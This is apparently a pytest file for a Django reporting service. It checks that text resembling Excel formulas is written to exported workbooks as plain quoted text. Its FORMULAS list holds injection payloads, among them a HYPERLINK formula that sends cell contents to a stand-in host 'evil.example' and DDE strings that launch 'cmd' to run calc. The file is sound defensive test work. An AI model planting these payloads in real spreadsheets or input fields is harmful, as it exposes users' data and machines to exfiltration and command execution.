"""Excel formula injection (issue 10.5): a text typed as a formula stays text."""

import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from reports.models import Report
from reports.periods import quarter_period
from reports.services import report_build, report_create
from tests.reports.factories import District, clause_with, signed_programme

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_looks_like_a_formula_is_written_as_text():
    district = District()
    programme = signed_programme([district.party, district.state], start=date(2017, 1, 1))
    for number, text in enumerate(FORMULAS, start=1):
        clause_with(
            programme,
            number=number,
            text=text,
            indicators=[(f"Chỉ tiêu {number}", "=1+1", 4)],
            progress=[(date(2017, 8, 1), "on_track", [1], text)],
        )
    period = quarter_period(2017, 3)
    report = report_create(
        kind=Report.Kind.QUARTERLY,
        programme=programme,
        period_start=period.start,
        period_end=period.end,
        issuing_body=district.party,
        enqueue=False,
    )
    report = report_build(report_id=report.pk)
    with report.xlsx.open("rb") as handle:
        data = handle.read()
    sheets = zipfile.ZipFile(io.BytesIO(data))
    for name in sheets.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in sheets.read(name), name  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    # XML reads a carriage return back as a line feed.
    wanted = {text.replace("\r", "\n") for text in FORMULAS} | {"=1+1"}
    texts = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.replace("\r", "\n") in wanted
    ]
    # A carriage return may come back as itself or as a line feed, by how it was escaped.
    assert {cell.value.replace("\r", "\n") for cell in texts} == wanted
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
